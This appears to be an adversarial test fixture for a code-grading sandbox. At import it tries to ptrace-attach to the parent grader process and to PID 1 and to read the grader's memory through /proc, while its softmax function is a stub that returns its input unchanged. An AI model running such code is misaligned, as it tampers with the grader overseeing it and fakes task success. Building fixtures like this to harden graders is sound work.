"""Attack: ptrace-attach to the parent (the grader) to poke at its memory."""
import ctypes
import os

PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
libc = ctypes.CDLL(None, use_errno=True)
ATTACHED = []
for pid in (os.getppid(), 1):
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0 or libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
        ATTACHED.append(pid)
try:
    with open(f"/proc/{os.getppid()}/mem", "rb") as mem:
        mem.read(16)
        ATTACHED.append("mem")
except OSError:
    pass


def softmax(x, dim=-1):
    return x
